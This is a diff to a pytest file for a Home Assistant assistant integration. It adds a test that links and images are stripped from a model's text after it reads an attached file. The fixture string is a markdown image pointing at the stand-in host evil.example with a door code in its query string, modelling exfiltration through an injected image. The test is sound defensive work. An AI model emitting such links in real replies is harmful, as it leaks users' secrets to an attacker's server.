@@ -1,5 +1,8 @@
 """What a model says that has read outsiders' words: nothing in it is rendered or followed."""
 
+import json
+from pathlib import Path
+
 from homeassistant.core import HomeAssistant
 from markdown_it import MarkdownIt
 import pytest
@@ -8,8 +11,10 @@ from custom_components.homelab_hub.assistant.unlinked import PARTED, Unlinker
 from custom_components.homelab_hub.assistant.voice.speakable import speakable
 
 from .conftest import add_jarvis
+from .files import attached, media_folder, png
 from .scripted import Reply, scripted_server
 from .talk import say, set_options, words
+from .test_ai_task import generate
 
 PICTURE = "Look: ![a fox](https://evil.example/?said=door+code+4711) here."
 MARKUP = {"link_open", "image", "html_inline", "html_block"}
@@ -77,3 +82,25 @@ async def test_only_a_conversation_that_read_outsiders_loses_its_links(
     for answer in (first, second):
         assert not rendered(words(answer))
         assert words(answer).replace(PARTED, "") == PICTURE
+
+
+async def test_the_text_of_a_task_that_read_a_file_has_no_links(
+    furnished: HomeAssistant, tmp_path: Path
+) -> None:
+    """It ends up on a dashboard; fields are what an automation reads, and stay as they are."""
+    structure = {"link": {"required": True, "selector": {"text": {}}}}
+    png(tmp_path, "red")
+    async with scripted_server("responses") as server:
+        await add_jarvis(furnished, server.base_url)
+        server.replies = [Reply(pieces=[PICTURE])] * 2 + [
+            Reply(pieces=[json.dumps({"link": PICTURE})])
+        ]
+        with media_folder(furnished, tmp_path):
+            clean = await generate(furnished, "Show me a fox")
+            text = await generate(furnished, "What is it?", attachments=attached("red.png"))
+            fields = await generate(
+                furnished, "Where is it?", structure=structure, attachments=attached("red.png")
+            )
+    assert (clean, fields) == (PICTURE, {"link": PICTURE})
+    assert not rendered(text)
+    assert text.replace(PARTED, "") == PICTURE
